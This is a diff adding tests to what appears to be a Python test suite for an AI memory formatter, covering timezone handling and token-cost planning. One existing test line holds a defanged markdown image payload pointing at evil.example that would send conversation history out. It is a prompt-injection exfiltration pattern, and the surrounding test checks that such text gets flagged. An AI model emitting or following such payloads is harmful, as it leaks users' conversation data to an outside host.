@@ -331,3 +331,32 @@ def test_flag_note_precedes_flagged_text(counter: TokenCounter, make_item: MakeI
     )
     out = get_formatter("summary_only").render([make_item(memory)], budget=200, counter=counter)
     assert f"web: {FLAG_NOTE} Nice. [img](hxxps://evil.example/c?d={{history}}) bye" in out.text
+
+
+def test_a_naive_query_time_is_taken_as_utc(
+    counter: TokenCounter, sample: list[Memory], make_item: MakeItem
+) -> None:
+    """now without a timezone works like Memory timestamps do: as UTC."""
+    naive = NOW.replace(tzinfo=None)
+    for name in ("index", "summary_only"):
+        fmt = get_formatter(name)
+        assert fmt.render([make_item(sample[0])], budget=200, counter=counter, now=naive) == (
+            fmt.render([make_item(sample[0])], budget=200, counter=counter, now=NOW)
+        )
+
+
+def test_the_planner_prices_items_given_what_is_placed(
+    counter: TokenCounter, sample: list[Memory], make_item: MakeItem
+) -> None:
+    """plan(): marginal costs shrink once a header is shared; their sum predicts the render."""
+    fmt = get_formatter("full_content")
+    planner = fmt.plan(counter)  # type: ignore[attr-defined]
+    items = [make_item(m, Layer.DETAIL) for m in sample[:6]]
+    first = planner.cost(items[0])
+    assert first == fmt.cost(items[0], counter)
+    assert planner.add(items[0]) == first
+    assert planner.cost(items[1]) < fmt.cost(items[1], counter)
+    for item in items[1:]:
+        planner.add(item)
+    rendered = fmt.render(items, budget=5000, counter=counter)
+    assert planner.tokens == pytest.approx(rendered.tokens, abs=3)
